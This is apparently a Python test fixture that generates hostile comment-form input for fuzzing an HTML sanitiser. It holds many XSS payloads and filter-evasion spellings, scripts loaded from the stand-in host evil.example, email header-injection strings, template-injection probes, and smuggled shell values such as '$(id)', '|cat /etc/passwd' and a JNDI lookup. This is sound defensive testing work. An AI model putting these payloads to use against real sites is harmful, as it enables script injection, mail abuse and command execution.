"""Hostile input, made from families: what is tried, in which wrapping, with which trick to get past a cleaner.

`HOSTILE=full` takes all of it; without that a spread of each family is enough for every day.
"""

import os
from itertools import cycle, islice, product

IS_FULL = os.environ.get("HOSTILE") == "full"
EVERY_DAY = 6  # of each family

CALL = "alert(1)"
IMG = f"<img src=x onerror={CALL}>"
SCRIPT = f"<script>{CALL}</script>"

# Elements that run something by themselves, or when they are looked at.
RUNNING = [
    "img src=x onerror", "svg onload", "svg/onload", "body onload", "video src=x onerror", "audio src=x onerror",
    "video><source onerror", "details open ontoggle", "input autofocus onfocus", "select autofocus onfocus",
    "textarea autofocus onfocus", "marquee onstart", "object data=x onerror", "embed src=x onload", "iframe onload",
    "a href=# onmouseover", "div tabindex=1 autofocus onfocus", "p contenteditable autofocus onfocus", "style onload",
    "link rel=stylesheet href=x onerror", "x onpointerenter", "button autofocus onfocus", "image src=x onerror",
    "svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x onbegin", "math><mi onmouseover",
    "frameset onload", "keygen autofocus onfocus", "dialog open onclose", "form><button formaction=x onclick",
]  # fmt: skip
ENDINGS = [f"={CALL}>", f"='{CALL}'>", f'="{CALL}">', f"\n=\n{CALL}\n>", f"={CALL}//", "=&#97;lert(1)>", f"=`{CALL}`>",
           "=top['al'+'ert'](1)>", f"\x0c={CALL} >"]  # fmt: skip
SPELLINGS = [
    SCRIPT, f"<SCRIPT>{CALL}</SCRIPT>", f"<ScRiPt >{CALL}</sCrIpT >", f"<script\n>{CALL}</script\n>", f"<script/x>{CALL}</script>",
    "<script src=//evil.example/x.js></script>", "<script type=module>import '//evil.example/x.js'</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<scr<!-- -->ipt>{CALL}</scr<!-- -->ipt>", f"<script>{CALL}", f"<script{SCRIPT}",
    f"<<script>{CALL}//<</script>", f"\x00<script>{CALL}</script>", f"<s\x00cript>{CALL}</script>", f"<script\x0c>{CALL}</script>",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&amp;lt;script&amp;gt;{CALL}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"＜script＞{CALL}＜/script＞", f"\u2039script\u203a{CALL}",
    f"<script>{CALL}<!--</script>", f"<!--><script>{CALL}</script>-->", f"<!--{SCRIPT}--!>{SCRIPT}", f"<![CDATA[{SCRIPT}]]>",
    f"<?xml version='1.0'?>{SCRIPT}", f"<!DOCTYPE x [<!ENTITY y '{CALL}'>]>{SCRIPT}", f"<%= {CALL} %>{IMG}", f"</script>{SCRIPT}",
    f"<svg>{SCRIPT}</svg>", f"<svg><script href=data:,{CALL} />", f"<math>{SCRIPT}</math>", f"<template>{SCRIPT}</template>",
    f"<noscript>{SCRIPT}</noscript>", f"<base href=//evil.example/>{SCRIPT}", f'<meta http-equiv=refresh content="0;url=javascript:{CALL}">',
    "<link rel=import href=//evil.example/x>", "<style>@import '//evil.example/x';*{background:url(//evil.example/y)}</style>",
    f"<iframe srcdoc='{SCRIPT}'></iframe>", f'<object data="data:text/html,{SCRIPT}">', "<portal src=//evil.example>",
]  # fmt: skip
# Inside these a second parser reads other things than the first.
MISREAD = ["svg", "math", "noscript", "style", "title", "textarea", "xmp", "template", "select", "table", "noembed", "noframes",
           "iframe", "plaintext", "svg><style", "math><mtext><table><mglyph><style", "svg><title><style", "math><annotation-xml",
           "svg><desc", "form><math><mtext></form><form><mglyph><style", "svg><foreignObject><p", "table><select><option"]  # fmt: skip
CARRIERS = [
    "<{0}><p title=\"</{1}>{2}\">", "<{0}>{2}</{1}>", "<{0}><!--</{1}>{2}-->", "<{0}></p></{1}>{2}", "<{0}><a id='</{1}>{2}'>",
    "<{0}><![CDATA[</{1}>{2}]]>", "<{0}>&lt;/{1}&gt;{2}", "<b><{0}></b>{2}</{1}>",
]  # fmt: skip
SCHEMES = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f" javascript:{CALL}", f"\x01javascript:{CALL}", f"java\tscript:{CALL}",
    f"java\nscript:{CALL}", f"java&#10;script:{CALL}", f"java&Tab;script:{CALL}", f"javascript&colon;{CALL}", f"javascript\x00:{CALL}",
    f"java\u200bscript:{CALL}", f"java\u00adscript:{CALL}", f"\ufeffjavascript:{CALL}", f"javascript://x.example/%0a{CALL}",
    f"&#106;avascript:{CALL}", f"&#x6A&#x61vascript:{CALL}", f"%6aavascript:{CALL}", f"jav\\ascript:{CALL}", f"vbscript:{CALL}",
    f"data:text/html,{SCRIPT}", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=alert(1)>",
    f"DATA:text/html,{SCRIPT}", "blob:https://x.example/1", "file:///etc/passwd", f"feed:javascript:{CALL}", f"view-source:javascript:{CALL}",
    f"livescript:{CALL}", "//evil.example/x", "\\\\evil.example\\x", "https:evil.example", "http:\\\\evil.example", "ftp://evil.example/",
    f"http://x.example/\"onmouseover=\"{CALL}", f"http://x.example/'onmouseover='{CALL}", f"http://x.example/`onmouseover=`{CALL}",
    f"http://x.example/ onmouseover={CALL}", f"http://x.example/><img src=x onerror={CALL}>", f"http://x.example/%22onmouseover=%22{CALL}",
    f"http://x.example/&quot;onmouseover=&quot;{CALL}", "http://x.example/\u202egpj.exe", "http://\u0430pple.example/", "http://user:pw@x.example/",
    "http://x.example/?a=1&lt=2&copy=3", "http://[::1]/", "http://x.example/" + "a" * 400, f"http://x.example/?q=</a>{IMG}",
]  # fmt: skip
LINKS = ["[x]({0})", "<{0}>", "![x]({0})", "[x]: {0}\n\n[x]", "[x](<{0}>)", '[x]({0} "t")', "<a href={0}>x</a>", '<a href="{0}">x</a>',
         "<a href='{0}'>x</a>", "<svg><a xlink:href='{0}'><text>x</text></a></svg>", "<form action='{0}'><input type=submit></form>",
         "<img src='{0}'>", "<iframe src='{0}'></iframe>", "<math href='{0}'>x</math>", "{0}"]  # fmt: skip
BREAKERS = [
    f'">{IMG}', f"'>{IMG}", f"`>{IMG}", f'" onmouseover="{CALL}', f"' onmouseover='{CALL}", f'" autofocus onfocus={CALL} x="', f"--> {IMG}",
    f"]]>{IMG}", f"</textarea>{IMG}", f"</title>{IMG}", f"</style>{IMG}", f"</script>{SCRIPT}", f"</bdi>{IMG}", f"</noscript>{IMG}",
    f"</select>{IMG}", f"</template>{IMG}", "{{ 7|add:7 }}", "{% debug %}", "{% include 'admin/base.html' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}", "%s%n%x %(name)s {0} {name}", f"\\\"{IMG}", f"\\'-{CALL}-\\'", f";{CALL}//", f"*/{CALL}/*",
    f"\u2028{CALL}//", f'{{"a":"</script>{SCRIPT}"}}', f"<!--{IMG}", f"<![endif]-->{IMG}", f"&quot;&gt;{IMG}", f"&#34;&#62;{IMG}", "&lt;b&gt;", "<b", "<", "&",
]  # fmt: skip
# What older blogs' own rewriting of comments turned into markup.
REWRITTEN = [
    f"<blockquote cite='x\n onmouseover={CALL}'>q</blockquote>", f"[caption width='1' caption='<a href=\"' \"onmouseover={CALL}\">]</a>",
    f"<a title='[' href='http://x.example]onmouseover={CALL} '>x</a>", f"[[x]<a href=\"]\" onmouseover={CALL}>y</a>", f"<a href='http://x.example/' title=']{IMG}'>x",
    f"<code>`</code>{IMG}`", f"```\n</code></pre>{IMG}\n```", f"    {IMG}", f"`{IMG}`", f"``` x\" onmouseover={CALL}\ny\n```", f"> {IMG}\n> {SCRIPT}",
    f"- {IMG}\n  - {SCRIPT}", f"# {IMG}", f"| {IMG} |\n| - |\n| {SCRIPT} |", f"*{IMG}*", f"**<b {SCRIPT}**", f"\\<img src=x onerror={CALL}>", f"&#60;img src=x onerror={CALL}&#62;",
    f"http://x.example/{IMG}", f"www.x.example/\"onmouseover={CALL}", f"a@x.example\"onmouseover={CALL}", f"<http://x.example/\"onmouseover={CALL}>", f"[x]: <javascript:{CALL}>\n[x]",
    f"[a]: http://x.example 'x\" onmouseover={CALL}'\n\n[a]", f"![{IMG}](http://x.example/y)", f"[{IMG}](http://x.example)", f"<p id=\"</p>{SCRIPT}\">x", f"<p align='\"{IMG}'>x",
    f"{'x' * 64}{IMG}", f"<b>{'<i>' * 8}{IMG}", f"\U0001f600{IMG}", f"{IMG}\U0001f469\u200d\U0001f52c", f"<kbd>{IMG}</kbd><samp>{SCRIPT}", f"<a name={IMG}>x</a>",
]  # fmt: skip
UNICODE = [
    "\u202eevil\u202c", "\u2066\u2067x\u2069", "\u202e" * 50, "Z" + "\u0335\u0489\u0488" * 40, "\u0300" * 200, "a\x00b", "a\x01\x1b[2Jb", "\x7f\x80\x9f", "\ufeffx", "\ufffe\uffff",
    "\ud800", "x\udfffy", "\ue000\U000f0000", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "Stev\u0435n C\u0430rney", "\u115f\u1160\u3164", "\u200b\u200c\u200d\u2060", "\u2028\u2029\x85\x0b\x0c",
    "ﷺ" * 40, "ᄀᄀᄀ각ᆨᆨ", "ffi ſ İ ı ß", "\u05d0\u05d1 <b>\u202d", "ＡＤＭＩＮ", "\u180e\u034f", "\U000e0041\U000e0042", "\u0e4a" * 30, "　",
]  # fmt: skip
MAIL = [
    "x\r\nBcc: evil@evil.example", "x\nBcc: evil@evil.example", "x\rBcc: evil@evil.example", "x%0d%0aBcc: evil@evil.example", "x\u2028Bcc: evil@evil.example", "x\x0bBcc: evil@evil.example",
    "x\r\n\r\n<b>body</b>", "x\r\nContent-Type: text/html\r\n\r\n" + SCRIPT, "x\r\n.\r\nMAIL FROM:<evil@evil.example>", "=?utf-8?q?x=0d=0aBcc:_evil@evil.example?=", "=?utf-8?b?eA0KQmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=",
    "x>, <evil@evil.example", '"x" <evil@evil.example>,', "x;y,z:evil@evil.example", "x\\\"\r\n evil", "x" * 300, "Subject: x", "\r\n\t folded", "x\x00\r\ny", "(comment\r\n)", "${jndi:ldap://evil.example/x}", "$(id)", "`id`", "|cat /etc/passwd",
]  # fmt: skip
EMAILS = [
    "a@x.example\r\nBcc: evil@evil.example", "a@x.example,evil@evil.example", '"a b"@x.example', "a@x.example>\r\nBcc: e@e.example", "<a@x.example>", f"a@x.example{IMG}", f"\"{SCRIPT}\"@x.example", "a@[127.0.0.1]",
    "ä@müller.example", "a@x.example\x00", "a'or'1'='1@x.example", "a+b=c@x.example", "-oQ/tmp@x.example", "a@" + "x" * 250 + ".example", "javascript:alert(1)@x.example", "a@x.example;b@x.example",
]  # fmt: skip

FAMILIES = {
    "script": SPELLINGS,
    "handler": [f"<{start}{end}" for start, end in product(RUNNING, ENDINGS)],
    "misread": [shape.format(name, name.split(">")[-1], IMG) for name, shape in product(MISREAD, CARRIERS)],
    "scheme": [shape.format(address) for address, shape in product(SCHEMES, LINKS)],
    "breaker": BREAKERS,
    "rewritten": REWRITTEN,
    "unicode": UNICODE,
    "mail": MAIL,
}


def spread(items: list[str]) -> list[str]:
    """All of it, or so many from every part of the list."""
    step = 1 if IS_FULL else max(1, len(items) // EVERY_DAY)
    return items[::step] if step > 1 else items


BODIES = [payload for family in FAMILIES.values() for payload in spread(family)]
NAMES = [*spread(BREAKERS), *spread(UNICODE), *spread(MAIL), *spread(SPELLINGS), *spread(RUNNING)]
WEBSITES = [*spread(SCHEMES), *spread(BREAKERS)]
TITLES = [*spread(BREAKERS), *spread(SPELLINGS), *spread(UNICODE), *spread(REWRITTEN)]


def comments() -> list[dict[str, str]]:
    """What is typed into the form: every body once, the other fields in turn."""
    longest = max(len(BODIES), len(NAMES), len(WEBSITES))
    rows = islice(zip(cycle(BODIES), cycle(NAMES), cycle(WEBSITES), cycle(EMAILS), strict=False), longest)
    return [
        {"text": f"{body}\n\nNumber {number}.", "name": name, "website": website, "email": email}
        for number, (body, name, website, email) in enumerate(rows)
    ]
